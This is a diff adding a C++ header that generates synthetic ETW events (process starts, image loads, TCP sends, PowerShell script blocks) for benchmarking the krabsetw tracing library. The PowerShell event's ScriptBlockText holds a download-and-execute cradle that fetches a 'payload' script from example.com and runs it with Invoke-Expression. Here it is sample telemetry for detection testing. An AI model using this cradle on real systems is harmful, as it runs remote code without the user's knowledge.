@@ -0,0 +1,282 @@
+// Copyright (c) Microsoft. All rights reserved.
+// Licensed under the MIT license. See LICENSE file in the project root for full license information.
+
+// Summary
+// ----------------------------------------------------------------------------
+// Synthetic events shaped like the ones a sensor spends its time on: process
+// starts and image loads from Microsoft-Windows-Kernel-Process, TCP sends
+// from Microsoft-Windows-Kernel-Network and script blocks from
+// Microsoft-Windows-PowerShell.
+//
+// On Windows the schemas come from the manifests installed on the machine.
+// Elsewhere workload_schemas describes the same events and is plugged into
+// the TDH stand-in.
+
+#pragma once
+
+#include <krabs.hpp>
+#include <bluekrabs/searching/wevt.hpp>
+
+#include <string>
+#include <vector>
+
+namespace krabsbench {
+
+    const krabs::guid kernel_process(L"{22FB2CD6-0E7B-422B-A0C7-2FAD1FD0E716}");
+    const krabs::guid kernel_network(L"{7DD42A49-5329-4832-8DFD-43D979153A88}");
+    const krabs::guid powershell(L"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}");
+
+    enum class workload {
+        process_start,
+        image_load,
+        tcp_send,
+        script_block
+    };
+
+    /**
+     * <summary>
+     *   Returns a human readable name of the workload, used in benchmark
+     *   labels.
+     * </summary>
+     */
+    const char *name_of(workload kind);
+
+    /**
+     * <summary>
+     *   Builds a record of the given kind. The property values vary with
+     *   seed so that filters see different strings.
+     * </summary>
+     */
+    krabs::testing::synth_record make_record(workload kind, size_t seed = 0);
+
+    /**
+     * <summary>
+     *   Builds count records cycling through every workload, as they would
+     *   arrive interleaved on a busy trace.
+     * </summary>
+     */
+    std::vector<krabs::testing::synth_record> make_mix(size_t count);
+
+#if !defined(_WIN32)
+
+    /**
+     * <summary>
+     *   Schemas of the workload events, for the TDH stand-in. The property
+     *   names and types follow the Windows manifests.
+     * </summary>
+     */
+    class workload_schemas {
+    public:
+        workload_schemas();
+
+        size_t get_event_schema(const EVENT_RECORD &record, void *buffer, size_t size) const;
+
+    private:
+        struct entry {
+            krabs::guid provider;
+            USHORT id;
+            std::vector<BYTE> schema;
+        };
+
+        void add(
+            const krabs::guid &provider,
+            USHORT id,
+            UCHAR version,
+            const wchar_t *provider_name,
+            const wchar_t *task_name,
+            const std::vector<std::pair<const wchar_t *, USHORT>> &properties);
+
+        std::vector<entry> entries_;
+    };
+
+#endif
+
+    // Implementation
+    // ------------------------------------------------------------------------
+
+    inline const char *name_of(workload kind)
+    {
+        switch (kind) {
+        case workload::process_start: return "process_start";
+        case workload::image_load: return "image_load";
+        case workload::tcp_send: return "tcp_send";
+        default: return "script_block";
+        }
+    }
+
+    inline krabs::testing::synth_record make_record(workload kind, size_t seed)
+    {
+        const auto pid = static_cast<unsigned int>(1000 + seed % 4096);
+        const auto suffix = std::to_wstring(seed % 97);
+
+        switch (kind) {
+        case workload::process_start: {
+            krabs::testing::record_builder builder(kernel_process, krabs::id(1), krabs::version(3));
+            builder.add_properties()
+                (L"ProcessID", pid)
+                (L"ParentProcessID", (unsigned int)4)
+                (L"SessionID", (unsigned int)1)
+                (L"Flags", (unsigned int)0)
+                (L"ImageName", L"\\Device\\HarddiskVolume3\\Windows\\System32\\svchost" + suffix + L".exe")
+                (L"ImageChecksum", (unsigned int)0x0001A2B3)
+                (L"TimeDateStamp", (unsigned int)0x5F1E2D3C)
+                (L"PackageFullName", L"")
+                (L"PackageRelativeAppId", L"");
+            return builder.pack_incomplete();
+        }
+        case workload::image_load: {
+            krabs::testing::record_builder builder(kernel_process, krabs::id(5), krabs::version(0));
+            builder.add_properties()
+                (L"ImageBase", (void *)(uintptr_t)(0x7FF800000000ull + (seed << 16)))
+                (L"ImageSize", (void *)(uintptr_t)0x1F000)
+                (L"ProcessID", pid)
+                (L"ImageCheckSum", (unsigned int)0x0002C3D4)
+                (L"TimeDateStamp", (unsigned int)0x6A2B3C4D)
+                (L"DefaultBase", (void *)(uintptr_t)0x180000000ull)
+                (L"ImageName", L"\\Device\\HarddiskVolume3\\Windows\\System32\\kernelbase" + suffix + L".dll");
+            return builder.pack_incomplete();
+        }
+        case workload::tcp_send: {
+            krabs::testing::record_builder builder(kernel_network, krabs::id(10), krabs::version(0));
+            builder.add_properties()
+                (L"PID", pid)
+                (L"size", (unsigned int)(512 + seed % 1024))
+                (L"daddr", (unsigned int)(0x0A000001 + seed % 255))
+                (L"saddr", (unsigned int)0x0A0000FE)
+                (L"dport", (unsigned short)443)
+                (L"sport", (unsigned short)(49152 + seed % 16384));
+            return builder.pack_incomplete();
+        }
+        default: {
+            krabs::testing::record_builder builder(powershell, krabs::id(4104), krabs::version(1));
+            builder.add_properties()
+                (L"MessageNumber", (int)1)
+                (L"MessageTotal", (int)1)
+                (L"ScriptBlockText",
+                    L"$client = New-Object System.Net.WebClient; "
+                    L"$client.Headers.Add('User-Agent', 'Mozilla/5.0'); "
+                    L"$data = $client.DownloadString('https://example.com/payload" + suffix + L".ps1'); "
+                    L"Invoke-Expression $data")
+                (L"ScriptBlockId", L"{6F0F1D2E-3C4B-4A59-8877-665544332211}")
+                (L"Path", L"C:\\Users\\krabs\\Documents\\update.ps1");
+            return builder.pack_incomplete();
+        }
+        }
+    }
+
+    inline std::vector<krabs::testing::synth_record> make_mix(size_t count)
+    {
+        const workload kinds[] = {
+            workload::process_start,
+            workload::image_load,
+            workload::tcp_send,
+            workload::script_block
+        };
+
+        std::vector<krabs::testing::synth_record> records;
+        records.reserve(count);
+        for (size_t i = 0; i < count; ++i) {
+            records.push_back(make_record(kinds[i % 4], i));
+        }
+
+        return records;
+    }
+
+#if !defined(_WIN32)
+
+    inline workload_schemas::workload_schemas()
+    {
+        add(kernel_process, 1, 3, L"Microsoft-Windows-Kernel-Process", L"ProcessStart", {
+            { L"ProcessID", TDH_INTYPE_UINT32 },
+            { L"CreateTime", TDH_INTYPE_FILETIME },
+            { L"ParentProcessID", TDH_INTYPE_UINT32 },
+            { L"SessionID", TDH_INTYPE_UINT32 },
+            { L"Flags", TDH_INTYPE_UINT32 },
+            { L"ImageName", TDH_INTYPE_UNICODESTRING },
+            { L"ImageChecksum", TDH_INTYPE_UINT32 },
+            { L"TimeDateStamp", TDH_INTYPE_UINT32 },
+            { L"PackageFullName", TDH_INTYPE_UNICODESTRING },
+            { L"PackageRelativeAppId", TDH_INTYPE_UNICODESTRING },
+        });
+
+        add(kernel_process, 5, 0, L"Microsoft-Windows-Kernel-Process", L"ImageLoad", {
+            { L"ImageBase", TDH_INTYPE_POINTER },
+            { L"ImageSize", TDH_INTYPE_POINTER },
+            { L"ProcessID", TDH_INTYPE_UINT32 },
+            { L"ImageCheckSum", TDH_INTYPE_UINT32 },
+            { L"TimeDateStamp", TDH_INTYPE_UINT32 },
+            { L"DefaultBase", TDH_INTYPE_POINTER },
+            { L"ImageName", TDH_INTYPE_UNICODESTRING },
+        });
+
+        add(kernel_network, 10, 0, L"Microsoft-Windows-Kernel-Network", L"KERNEL_NETWORK_TASK_TCPIP", {
+            { L"PID", TDH_INTYPE_UINT32 },
+            { L"size", TDH_INTYPE_UINT32 },
+            { L"daddr", TDH_INTYPE_UINT32 },
+            { L"saddr", TDH_INTYPE_UINT32 },
+            { L"dport", TDH_INTYPE_UINT16 },
+            { L"sport", TDH_INTYPE_UINT16 },
+            { L"startime", TDH_INTYPE_UINT32 },
+            { L"endtime", TDH_INTYPE_UINT32 },
+            { L"seqnum", TDH_INTYPE_UINT32 },
+            { L"connid", TDH_INTYPE_POINTER },
+        });
+
+        add(powershell, 4104, 1, L"Microsoft-Windows-PowerShell", L"Execute a Remote Command", {
+            { L"MessageNumber", TDH_INTYPE_INT32 },
+            { L"MessageTotal", TDH_INTYPE_INT32 },
+            { L"ScriptBlockText", TDH_INTYPE_UNICODESTRING },
+            { L"ScriptBlockId", TDH_INTYPE_UNICODESTRING },
+            { L"Path", TDH_INTYPE_UNICODESTRING },
+        });
+    }
+
+    inline void workload_schemas::add(
+        const krabs::guid &provider,
+        USHORT id,
+        UCHAR version,
+        const wchar_t *provider_name,
+        const wchar_t *task_name,
+        const std::vector<std::pair<const wchar_t *, USHORT>> &properties)
+    {
+        EVENT_DESCRIPTOR descriptor;
+        ZeroMemory(&descriptor, sizeof(descriptor));
+        descriptor.Id = id;
+        descriptor.Version = version;
+
+        std::vector<krabs::details::wevt_property> layout;
+        for (const auto &property : properties) {
+            layout.push_back({
+                property.first,
+                0,
+                property.second,
+                krabs::details::wevt_default_out_type(property.second),
+                1,
+                krabs::details::wevt_fixed_size(property.second) });
+        }
+
+        entries_.push_back({ provider, id, krabs::details::build_trace_event_info(
+            provider, descriptor, provider_name, task_name, L"", L"", layout) });
+    }
+
+    inline size_t workload_schemas::get_event_schema(const EVENT_RECORD &record, void *buffer, size_t size) const
+    {
+        for (const auto &entry : entries_) {
+            if (entry.id != record.EventHeader.EventDescriptor.Id ||
+                entry.provider != record.EventHeader.ProviderId) {
+                continue;
+            }
+
+            if (size >= entry.schema.size()) {
+                memcpy(buffer, entry.schema.data(), entry.schema.size());
+            }
+
+            return entry.schema.size();
+        }
+
+        return 0;
+    }
+
+#endif
+
+}